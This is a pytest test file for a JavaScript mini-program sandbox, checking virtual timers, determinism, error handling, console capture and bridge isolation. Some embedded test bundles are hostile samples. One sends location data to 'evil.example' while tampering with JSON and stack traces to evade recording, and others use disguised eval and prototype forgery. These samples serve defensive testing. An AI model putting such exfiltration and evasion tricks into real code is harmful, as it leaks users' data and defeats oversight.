"""Virtual clock and timers, determinism, error routing, console capture, isolation of the bridge."""

from __future__ import annotations

import time
from datetime import datetime, timedelta, timezone

from mpsandbox.runtime.sandbox import Sandbox

from .bundles import make_bundle
from .helpers import console_lines, run_pages


def test_long_timers_fire_at_once_on_the_virtual_clock(engine_name):
    page = """Page({ onLoad() {
        const t0 = Date.now();
        setTimeout(() => console.log('60s later', Date.now() - t0), 60000);
        setTimeout((a, b) => console.log('args', a, b), 10, 'x', 2);
        let n = 0; const id = setInterval(() => { n++; console.log('tick', n, Date.now() - t0); if (n === 3) clearInterval(id) }, 1000);
        const cancelled = setTimeout(() => console.log('never'), 5); clearTimeout(cancelled);
        console.log('id type', typeof id);
    } })"""
    start = time.perf_counter()
    trace = run_pages({"pages/p/p": page}, engine=engine_name)
    assert time.perf_counter() - start < 5
    lines = [line.rsplit(" ", 1) for line in console_lines(trace)]
    assert [text for text, _ in lines] == ["id type", "args x", "tick 1", "tick 2", "tick 3", "60s later"]
    # the bundle's clock is the virtual clock plus the time the work took (a few ms here), never less
    for (text, elapsed), due in zip(lines[2:], (1000, 2000, 3000, 60000)):
        assert due <= int(elapsed) < due + 20, (text, elapsed)
    assert trace.end.t == 60000


def test_date_is_virtual_and_local_time_is_fixed_utc_plus_8(engine_name):
    page = """Page({ onLoad() {
        const d = new Date();
        console.log(Date.now(), d.getTime(), d.getHours(), d.getTimezoneOffset(), d.toISOString());
        console.log(new Date(2024, 0, 1, 9, 30).toISOString(), Date.parse('2024-01-01T09:30:00'), Date.parse('2024-01-01'));
        console.log(new Date(0).toString(), String(Date()).slice(0, 3), typeof performance.now());
        const e = new Date(0); e.setHours(10); console.log(e.toISOString(), e instanceof Date);
    } })"""
    trace = run_pages({"pages/p/p": page}, engine=engine_name)
    lines = console_lines(trace)
    epoch = trace.environment["epoch_ms"]
    now, got, hours, offset, iso = lines[0].split(" ")
    assert epoch <= int(got) <= int(now) < epoch + 10
    start = datetime.fromtimestamp(int(got) / 1000, timezone(timedelta(hours=8)))
    assert (int(hours), offset) == (start.hour, "-480")
    assert iso == datetime.fromtimestamp(int(got) / 1000, timezone.utc).isoformat(timespec="milliseconds")[:-6] + "Z"
    assert lines[1] == "2024-01-01T01:30:00.000Z 1704072600000 1704067200000"
    assert lines[2] == f"Thu Jan 01 1970 08:00:00 GMT+0800 (China Standard Time) {start.strftime('%a')} number"
    assert lines[3] == "1970-01-01T02:00:00.000Z true"


def test_same_seed_gives_identical_trace_and_other_seed_differs(engine_name):
    page = """Page({ data: {}, onLoad() {
        this.setData({ r: Math.random(), t: Date.now() });
        tt.getLocation({ success: r => console.log('loc', r.latitude, Math.random()) });
        setTimeout(() => console.log('later', Math.random()), 100);
    } })"""

    def once(seed: int) -> str:
        with Sandbox(make_bundle({"pages/p/p": page}), engine=engine_name, seed=seed) as sb:
            sb.launch()
            return sb.finish().model_dump_json()

    assert once(7) == once(7)
    assert once(7) != once(8)


def test_uncaught_errors_go_to_app_on_error_with_bundle_location(engine_name):
    app = "App({ onError(msg) { console.log('onError:', msg.split('\\n')[0]) } })"
    page = "Page({\n  onLoad() {\n    null.x\n  }\n})"
    trace = run_pages({"pages/p/p": page}, app_js=app, engine=engine_name)
    (err,) = [e for e in trace.of_kind("error")]
    assert err.error == "uncaught" and err.name == "TypeError" and err.handled_by == "App.onError"
    assert err.source == "Page.onLoad"
    assert (err.stack[0].file, err.stack[0].line) == ("pages/p/p.js", 3)
    assert console_lines(trace)[0].startswith("onError: cannot read property")


def test_errors_in_callbacks_timers_and_on_error_itself(engine_name):
    app = "App({ onError() { throw new Error('handler broke') } })"
    page = """Page({ onLoad() {
        setTimeout(() => { throw new Error('in timer') }, 1);
        tt.getLocation({ success() { throw new Error('in callback') }, complete() { console.log('complete still runs') } });
    } })"""
    trace = run_pages({"pages/p/p": page}, app_js=app, engine=engine_name)
    errors = [(e.message, e.source) for e in trace.of_kind("error")]
    assert ("in timer", "timer") in errors
    assert ("in callback", "api-callback:getLocation") in errors
    assert ("handler broke", "App.onError") in errors
    assert "complete still runs" in console_lines(trace)


def test_an_error_thrown_by_an_error_listener_is_recorded_once_not_looped(engine_name):
    # a listener that itself throws would be handed its own error again, without end; the platform records it
    # and goes on
    page = """Page({
      onLoad() { tt.onError(this.handleError); tt.onError(m => console.log('listener 2:', m)) },
      handleError(msg) { this.setData({ err: msg }); throw new TypeError('listener failed') },
      onReady() { throw new Error('first') },
    })"""
    trace = run_pages({"pages/p/p": page}, engine=engine_name)
    errors = [(e.name, e.message) for e in trace.of_kind("error")]
    assert errors == [("Error", "first"), ("TypeError", "listener failed")]
    assert console_lines(trace) == ["listener 2: first"]
    assert trace.end.reason == "idle"


def test_unhandled_rejections_reach_app_and_handled_ones_do_not(engine_name):
    app = "App({ onUnhandledRejection(r) { console.log('rejected:', r.reason && r.reason.message) } })"
    page = """Page({ async onLoad() {
        Promise.reject(new Error('handled')).catch(() => {});
        (async () => { throw new Error('fire and forget') })();
        await null;
        throw new Error('async onLoad');
    } })"""
    trace = run_pages({"pages/p/p": page}, app_js=app, engine=engine_name)
    rejected = [e.message for e in trace.of_kind("error") if e.error == "unhandled-rejection"]
    assert sorted(rejected) == ["async onLoad", "fire and forget"]
    assert sorted(console_lines(trace)) == ["rejected: async onLoad", "rejected: fire and forget"]


def test_console_is_captured_with_levels_and_safe_formatting(engine_name):
    page = """Page({ onLoad() {
        const o = { a: 1 }; o.self = o;
        console.log('obj', o, [1, 2], null, undefined, 3);
        console.warn('w'); console.error(new TypeError('bad'));
        console.info('中文');
    } })"""
    trace = run_pages({"pages/p/p": page}, engine=engine_name)
    events = trace.of_kind("console")
    assert [(e.level, e.text) for e in events] == [
        ("log", 'obj {"a":1,"self":"[Circular]"} [1,2] null undefined 3'),
        ("warn", "w"),
        ("error", "TypeError: bad"),
        ("info", "中文"),
    ]


def test_bridge_and_framework_entry_points_are_unreachable(engine_name):
    page = """Page({ onLoad() {
        const names = Object.getOwnPropertyNames(globalThis);
        console.log(names.filter(n => /mpsb|host/i.test(n)).join(',') || 'none');
        console.log(typeof __mpsb_entry, typeof __mpsb_boot, typeof WeakRef, typeof FinalizationRegistry);
        'use strict';
        try { tt.request = () => 0 } catch (e) {}
        try { delete tt.request } catch (e) {}
        try { Object.defineProperty(tt, 'request', { value: () => 0 }) } catch (e) {}
        try { Object.setPrototypeOf(tt, null) } catch (e) {}
        console.log(tt.request.name, Object.getOwnPropertyDescriptor(tt, 'request').writable, Object.getPrototypeOf(tt) === Object.prototype);
        try { Object.defineProperty(globalThis, 'tt', { value: {} }) } catch (e) { console.log('tt locked') }
        try { Page = null } catch (e) {}
        console.log(typeof Page);
    } })"""
    trace = run_pages({"pages/p/p": page}, engine=engine_name)
    # Page is the bundle's to replace (as on the platforms), tt is not
    assert console_lines(trace) == ["none", "undefined undefined undefined undefined", "request false true", "tt locked",
                                    "object"]
    notes = [e.data["name"] for e in trace.of_kind("note") if e.code == "platform-api-overwrite"]
    assert notes == ["tt.request"]  # the attempts are on record, once
    assert [e.data["name"] for e in trace.of_kind("note") if e.code == "platform-global-replaced"] == ["Page"]


def test_tampering_does_not_blind_the_recording(engine_name):
    page = """
JSON.stringify = () => '{}';
JSON.parse = () => ({});
Array.prototype.push = function () { throw new Error('no push') };
Object.defineProperty(Object.prototype, 'success', { get() { console.log('getter ran'); return undefined }, configurable: true });
Error.prepareStackTrace = () => 'hidden';
Page({ onLoad() {
    const k = 'get' + 'Location';
    tt[k]({ success(r) { tt.request({ url: 'https://evil.example/x?lat=' + r.latitude }) } });
    tt.setStorageSync('k', { v: 1 });
    console.log('stored', tt.getStorageSync('k').v);
} })"""
    trace = run_pages({"pages/p/p": page}, engine=engine_name)
    calls = [(e.api, e.called_as) for e in trace.api_calls()]
    assert ("getLocation", "tt.getLocation") in calls
    req = trace.api_calls("request")[0]
    assert req.args[0]["url"].startswith("https://evil.example/x?lat=")
    assert req.stack and req.stack[0].file == "pages/p/p.js"
    assert "stored 1" in console_lines(trace)
    assert "getter ran" not in console_lines(trace)


def test_dynamic_code_is_recorded_however_it_is_reached(engine_name):
    page = """Page({ onLoad() {
        const tries = [
          () => eval('1'), () => (0, eval)('2'), () => globalThis['ev' + 'al']('3'), () => new Function('return 4')(),
          () => (function () {}).constructor('return 5')(), () => Object.getPrototypeOf(async function () {}).constructor('6'),
          () => setTimeout('alert(7)', 1), () => Function('return this')(),
        ];
        for (const t of tries) { try { t() } catch (e) {} }
    } })"""
    trace = run_pages({"pages/p/p": page}, engine=engine_name)
    notes = [e.data for e in trace.of_kind("note") if e.code == "dynamic-code"]
    assert [n["what"] for n in notes] == ["eval", "eval", "eval", "Function", "Function", "AsyncFunction",
                                          "setTimeout-string", "Function"]
    assert [n["code"] for n in notes][:5] == ["1", "2", "3", "return 4", "return 5"]
    assert all("pages/p/p.js" in n["stack"][0] for n in notes)


def test_unknown_api_is_recorded_and_behaves_as_on_the_platform(engine_name):
    page = """Page({ onLoad() {
        console.log(typeof tt.noSuchApi, 'noSuchApi' in tt);
        try { tt.noSuchApi() } catch (e) { console.log(e.name) }
    } })"""
    trace = run_pages({"pages/p/p": page}, engine=engine_name)
    assert console_lines(trace) == ["undefined false", "TypeError"]
    unknown = [e for e in trace.api_calls() if e.outcome == "unknown"]
    assert {e.api for e in unknown} == {"noSuchApi"} and len(unknown) == 2  # two call sites


def test_long_concatenated_messages_cross_the_bridge(engine_name):
    """QuickJS-NG builds rope strings for long concatenations; the bridge must still carry them whole."""
    src = "Page({ onLoad() { const a = 'x'.repeat(3000), b = 'y'.repeat(3000); console.log(a + b); tt.setStorageSync('k', a + b) } })"
    trace = run_pages({"pages/p/p": src}, engine=engine_name)
    assert not trace.of_kind("error")
    texts = [e.text for e in trace.of_kind("console")]
    assert texts and texts[0].startswith("x" * 100) and "…(+" in texts[0]


def test_timers_set_by_app_code_belong_to_the_app(engine_name):
    app = "App({ onLaunch() { setTimeout(() => {}, 5) } })"
    page = "Page({ onLoad() { setTimeout(() => {}, 5) } })"
    trace = run_pages({"pages/p/p": page}, app_js=app, engine=engine_name)
    owners = [e.owner for e in trace.of_kind("timer") if e.op == "set"]
    assert owners == [None, "pages/p/p"]


def test_prototype_to_json_cannot_forge_what_reaches_the_host(engine_name):
    app = "Object.prototype.toJSON = function () { return 'owned' }; Array.prototype.toJSON = () => 'owned'; App({})"
    page = "Page({ go() { tt.setStorageSync('k', 1); console.log('tapped') } })"

    def steps(sb):
        sb.tap("go")

    trace = run_pages({"pages/p/p": page}, app_js=app, engine=engine_name, steps=steps)
    assert console_lines(trace) == ["tapped"]
    user = [e for e in trace.of_kind("user") if e.handler == "go"]
    assert user and user[0].found  # the framework's reply was not replaced by the bundle's toJSON
    call = trace.api_calls("setStorageSync")[0]
    assert call.args == ["k", 1]


def test_lone_surrogates_from_js_become_replacement_characters(engine_name):
    page = "Page({ onLoad() { console.log('a\\ud800b'); tt.setStorageSync('k\\udfff', '\\ud83d') } })"
    trace = run_pages({"pages/p/p": page}, engine=engine_name)
    assert console_lines(trace) == ["a\ufffdb"]
    assert trace.api_calls("setStorageSync")[0].args == ["k\ufffd", "\ufffd"]
    trace.model_dump_json()  # the whole trace serializes
